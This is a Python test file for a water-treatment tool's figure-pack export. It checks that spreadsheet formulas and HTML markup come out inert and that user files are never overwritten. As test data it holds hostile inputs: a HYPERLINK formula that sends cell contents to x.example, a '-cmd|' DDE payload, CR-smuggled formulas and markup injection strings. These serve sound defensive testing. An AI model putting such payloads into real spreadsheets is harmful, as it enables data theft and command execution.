"""What the figure pack does with hostile text and with folders that are not its own: formulas made inert in every
CSV and .xlsx cell, markup shown as written in every figure, in the SVG and in summary.html, nothing overwritten
without asking (a manifest of what a pack wrote), the scenario read never replaced, an unwritable or occupied
output folder refused before anything is computed, clean command-line failures (message, exit status 2).
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import hostile_files as hostile
import numpy as np
import openpyxl
import pandas as pd
import pytest

import workbench as wb
from workbench import export
from workbench.export import (
    MANIFEST,
    ExportError,
    build_figure_pack,
    export_figure_pack,
    find_browser,
    image_server,
)
from workbench.figures import fig_jar_tests
from workbench.scenario import DesignOptions, LimitsChoice, Scenario, save_scenario
from workbench.tables import neutralised_text, table_csv, tables_xlsx

REPO = Path(__file__).resolve().parents[1]
PERMIT_REF = '=HYPERLINK("http://x.example/?d="&A1,"Open permit")'
LINK = '<a href="http://x.example/">Plant A</a>'
STYLED = '<span style="color:red;font-size:80px">big</span>'
WATER = wb.Water(metals_mg_l={"Zn": 20.0}, ph=4.0, sodium_mg_l=230.0, sulfate_mg_l=480.0)
HOSTILE = Scenario(
    name=f"{LINK} {STYLED} <b>bold</b>",
    water=WATER,
    limits=LimitsChoice(permit={"Zn": 1.0}, permit_source=PERMIT_REF),
    design=DesignOptions(ph_low=7.0, ph_high=11.0),
)
PLAIN = dataclasses.replace(HOSTILE, name="Zinc rinse (test)", limits=LimitsChoice(permit={"Zn": 1.0}))


@pytest.fixture(scope="module")
def plain_pack():
    return build_figure_pack(PLAIN)


# ---------------------------------------------------------------------------------------------- formula injection
FORMULAS = [PERMIT_REF, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-cmd|' /C calc'!A0"]


def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe_numbers_never_do():
    for text in FORMULAS:
        assert neutralised_text(text) == "'" + text
    for value in ("Zn", "monthly avg", "-0.5", "+3", "1e-3", "", "x=1", -0.5, -3, 0.0, None, float("nan")):
        assert neutralised_text(value) is value or neutralised_text(value) == value


def _table():
    return pd.DataFrame(
        {
            "note": FORMULAS + ["plain", "-0.25"],
            "value": [-0.5, -1e-9, -3.0, 0.0, 2.5, -7.25, 1.0, -2.0, np.nan],
            "count": [-1, -2, 3, 4, 5, 6, 7, 8, 9],
        },
        index=pd.Index(["=A1", "Zn", "Cu", "@x", "Ni", "Cd", "Pb", "Cr", "Fe"], name="@metal"),
    ).rename(columns={"note": "=note"})


def test_every_csv_cell_header_and_label_is_inert_and_negative_numbers_stay_numbers():
    text = table_csv(_table())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'@metal", "'=note", "value", "count"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")) and not re.match(r"^[+-][^0-9.]", cell), row
    body = {r[0]: r for r in rows[1:]}
    assert body["'=A1"][1] == "'" + PERMIT_REF and body["Zn"][1] == "'+1+1" and body["Cu"][1] == "'-2+3"
    assert body["Fe"][1] == "-0.25"  # text that is a plain number: a number to any spreadsheet, left as it is
    back = pd.read_csv(io.StringIO(text), index_col=0)
    np.testing.assert_array_equal(back["value"].to_numpy(), _table()["value"].to_numpy())  # -0.5 stays -0.5
    assert back["count"].dtype.kind == "i" and back["count"].min() == -2


def test_xlsx_has_no_formula_and_negative_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(tables_xlsx({"limits": _table()})))
    sheet = book["limits"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "'@metal" and sheet["B1"].value == "'=note" and sheet["B2"].value == "'" + PERMIT_REF
    assert sheet["C2"].value == -0.5 and sheet["C2"].data_type == "n" and sheet["D3"].value == -2
    assert sheet["C10"].value is None  # NaN: an empty cell


def test_a_permit_reference_written_as_a_formula_is_inert_in_the_packs_tables(tmp_path):
    written = export_figure_pack(HOSTILE, tmp_path / "pack", formats=("html",))
    folder = written[0].parent
    limits = list(csv.DictReader((folder / "limits_used.csv").open(encoding="utf-8")))
    assert [r["source"] for r in limits] == ["'" + PERMIT_REF]
    for path in folder.glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), (path.name, row)
    book = openpyxl.load_workbook(folder / "tables.xlsx")
    assert set(book.sheetnames) == {p.stem for p in folder.glob("*.csv")}
    assert not [c for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert "'" + PERMIT_REF in [c.value for row in book["limits_used"].iter_rows() for c in row]


# ---------------------------------------------------------------------------------------------- markup in titles
class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(text: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(text)
    return parser.tags


def _assert_inert(tags, where):
    links = [a for t, a in tags if "x.example" in (a.get("href", "") + a.get("xlink:href", ""))]
    styled = [a for t, a in tags if "80px" in a.get("style", "") or "color:red" in a.get("style", "")]
    assert not links and not styled and not [t for t, _ in tags if t == "b"], where


def test_markup_in_the_scenario_name_is_plain_text_in_every_figure_title_and_caption():
    pack = build_figure_pack(HOSTILE)
    for stem, fig in pack.figures.items():
        texts = [fig.layout.title.text] + [a.text for a in fig.layout.annotations]
        assert f"{html.escape(LINK, quote=False)}" in fig.layout.title.text, stem
        for text in texts:
            assert "<a" not in text and "<span" not in text and "<b>" not in text, (stem, text)
        assert html.escape(PERMIT_REF, quote=False) in " ".join(texts) or stem == "residual_curves"


def test_jar_ids_and_file_names_with_markup_are_plain_in_the_jar_test_figure():
    tidy = wb.read_jar_tests(
        ('jar,reagent,dose (mg/L),pH,Zn dissolved (mg/L)\n"' + LINK.replace('"', '""') + '",lime,100,9,0.5\n').encode(),
        file_format="csv",
    )
    curve = wb.residual_curve(wb.Water(metals_mg_l={"Zn": 25.0}), np.arange(8.0, 10.01, 0.5))
    fig = fig_jar_tests(tidy, curve, title=f"Jar tests ({STYLED}.csv)")
    assert "<span" not in fig.layout.title.text and "&lt;span" in fig.layout.title.text
    jar_ids = [row[0] for t in fig.data if t.customdata is not None for row in t.customdata]
    assert jar_ids == [html.escape(LINK, quote=False)]


@pytest.fixture(scope="module")
def server():
    try:
        find_browser()
    except ExportError as exc:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI needs Chromium for figure export: {exc}")
        pytest.skip(str(exc))
    with image_server():
        yield


def test_markup_comes_out_inert_in_the_svg_the_html_and_summary_html(server, tmp_path):
    written = export_figure_pack(HOSTILE, tmp_path / "pack", formats=("svg", "html"))
    folder = written[0].parent
    for stem in ("setpoint", "residual_curves"):
        svg = (folder / f"{stem}.svg").read_text(encoding="utf-8")
        root = ET.fromstring(svg)
        assert not [e for e in root.iter() if e.tag.endswith("}a") or e.tag == "a"]
        for e in root.iter():
            assert not any("x.example" in v for k, v in e.attrib.items() if k.endswith("href")), stem
            assert "80px" not in e.attrib.get("style", "") and "color:red" not in e.attrib.get("style", "")
        shown = " ".join("".join(e.itertext()) for e in root.iter() if e.tag.endswith("}text"))
        assert LINK in shown and STYLED in shown  # the name as typed, as text
        page = (folder / f"{stem}.html").read_text(encoding="utf-8")
        assert "x.example/\">" not in page and "\\u003ca href" not in page and "\\u003cspan style" not in page
    summary = (folder / "summary.html").read_text(encoding="utf-8")
    _assert_inert(_tags(summary), "summary.html")
    assert html.escape(LINK) in summary or html.escape(LINK, quote=False) in summary


# ---------------------------------------------------------------------------------------------- nothing overwritten
def _manifest(folder: Path) -> dict:
    return json.loads((folder / MANIFEST).read_text(encoding="utf-8"))["files"]


def test_a_pack_replaces_only_what_an_earlier_pack_wrote_and_left_unchanged(plain_pack, tmp_path):
    folder = tmp_path / "pack"
    first = export_figure_pack(PLAIN, folder, formats=("html",), pack=plain_pack)
    files = _manifest(folder)
    assert set(files) == {p.name for p in first} - {MANIFEST} and all(len(v) == 64 for v in files.values())
    (folder / "notes.docx").write_bytes(b"the engineer's notes")  # a file of the user's beside the pack
    export_figure_pack(PLAIN, folder, formats=("html",), pack=plain_pack)  # a rerun replaces its own files
    assert (folder / "notes.docx").read_bytes() == b"the engineer's notes"
    (folder / "summary.html").write_text("edited by hand", encoding="utf-8")
    with pytest.raises(wb.InputError, match="changed since an earlier pack wrote it"):
        export_figure_pack(PLAIN, folder, formats=("html",), pack=plain_pack)
    assert (folder / "summary.html").read_text(encoding="utf-8") == "edited by hand"
    export_figure_pack(PLAIN, folder, formats=("html",), pack=plain_pack, overwrite=True)
    assert (folder / "summary.html").read_text(encoding="utf-8") != "edited by hand"


def test_files_of_an_earlier_pack_that_a_new_one_does_not_write_are_removed_only_when_unchanged(tmp_path):
    folder = tmp_path / "pack"
    pack = build_figure_pack(PLAIN)
    pack.tables["stages"] = pd.DataFrame({"stage": [1, 2]})  # as if the earlier design had two stages
    export_figure_pack(PLAIN, folder, formats=("html",), pack=pack)
    assert (folder / "stages.csv").is_file()
    del pack.tables["stages"]
    export_figure_pack(PLAIN, folder, formats=("html",), pack=pack)
    assert not (folder / "stages.csv").exists() and "stages.csv" not in _manifest(folder)


def test_a_folder_of_other_files_is_refused_without_overwrite_and_before_any_work(monkeypatch, tmp_path):
    folder = tmp_path / "plantA"
    folder.mkdir()
    (folder / "summary.html").write_text("the plant's own page", encoding="utf-8")

    def no_work(*args, **kwargs):
        raise AssertionError("the pack was computed for a folder that cannot take it")

    monkeypatch.setattr(export, "build_figure_pack", no_work)
    with pytest.raises(wb.InputError, match="a new or empty folder") as info:
        export_figure_pack(PLAIN, folder, formats=("html",))
    assert info.value.field == "out_dir" and "summary.html" in str(info.value)
    assert (folder / "summary.html").read_text(encoding="utf-8") == "the plant's own page"


def test_the_scenario_read_is_never_replaced_even_with_overwrite(plain_pack, tmp_path):
    folder = tmp_path / "plantA"
    folder.mkdir()
    source = folder / "scenario.toml"
    source.write_text("# the engineer's comments\n" + PLAIN.to_toml(), encoding="utf-8")
    before = source.read_bytes()
    for overwrite in (False, True):
        with pytest.raises(wb.InputError, match="does not replace its own input"):
            export_figure_pack(
                PLAIN, folder, formats=("html",), pack=plain_pack, overwrite=overwrite, keep=[source]
            )
    assert source.read_bytes() == before and sorted(p.name for p in folder.iterdir()) == ["scenario.toml"]


def test_an_unwritable_output_folder_is_refused_before_any_work(monkeypatch, tmp_path):
    monkeypatch.setattr(export, "build_figure_pack", lambda *a, **k: pytest.fail("computed before the check"))
    blocker = tmp_path / "report.txt"
    blocker.write_text("a file where a folder would go", encoding="utf-8")
    targets = [blocker / "pack"]  # a folder under a file: no user can create it
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        targets.append(Path("/proc/workbench-pack"))  # root writes anywhere but into /proc
    else:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        targets.append(locked / "pack")
    for target in targets:
        with pytest.raises(wb.InputError, match="can create and write to") as info:
            export_figure_pack(PLAIN, target, formats=("html",))
        assert info.value.field == "out_dir"
        assert not target.exists()


def test_save_scenario_refuses_a_target_that_is_not_a_toml_file(tmp_path):
    for name in ("jar_tests.csv", "setpoint.ipynb", "scenario", "scenario.toml.bak"):
        target = tmp_path / name
        target.write_bytes(b"precious")
        with pytest.raises(wb.InputError, match=r"ending in \.toml"):
            save_scenario(PLAIN, target)
        assert target.read_bytes() == b"precious"
    assert save_scenario(PLAIN, tmp_path / "plant.TOML").is_file()


# ---------------------------------------------------------------------------------------------- command line
def _cli(*args, cwd=REPO):
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    return subprocess.run(
        [sys.executable, "-m", "workbench", "figures", *map(str, args)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_command_line_refuses_to_write_over_its_scenario_and_an_occupied_folder_with_status_2(tmp_path):
    plant = tmp_path / "plantA"
    plant.mkdir()
    source = plant / "scenario.toml"
    source.write_text("# comments the engineer keeps\n" + PLAIN.to_toml(), encoding="utf-8")
    (plant / "summary.html").write_text("the plant's own page", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in plant.iterdir()}
    for extra in ((), ("--overwrite",)):
        result = _cli(source, "--out", plant, "--formats", "html", *extra)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert "workbench figures:" in result.stderr
    assert {p.name: p.read_bytes() for p in plant.iterdir()} == before
    result = _cli(source, "--out", tmp_path / "pack", "--formats", "html")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "pack" / MANIFEST).is_file()


def test_command_line_fails_cleanly_on_a_deeply_nested_scenario_and_an_unwritable_folder(tmp_path):
    deep = tmp_path / "deep.toml"
    deep.write_text(hostile.deep_toml(100_000), encoding="utf-8")
    result = _cli(deep, "--out", tmp_path / "out", "--formats", "html")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "nests too deep" in result.stderr and not (tmp_path / "out").exists()
    source = save_scenario(PLAIN, tmp_path / "zinc.toml")
    blocker = tmp_path / "report.txt"
    blocker.write_text("x", encoding="utf-8")
    result = _cli(source, "--out", blocker / "pack", "--formats", "html")
    assert result.returncode == 2 and "Traceback" not in result.stderr and "out_dir" in result.stderr


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row():
    """With LF line ends a writer leaves a field holding a bare CR unquoted, and a spreadsheet starts a new row
    there, whose first cell would be '=1+1'."""
    text = table_csv(pd.DataFrame({"note": ["ok\r=1+1", "a\nb"], "value": [1.0, -2.0]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["note", "value"], ["ok\r=1+1", "1.0"], ["a\nb", "-2.0"]]
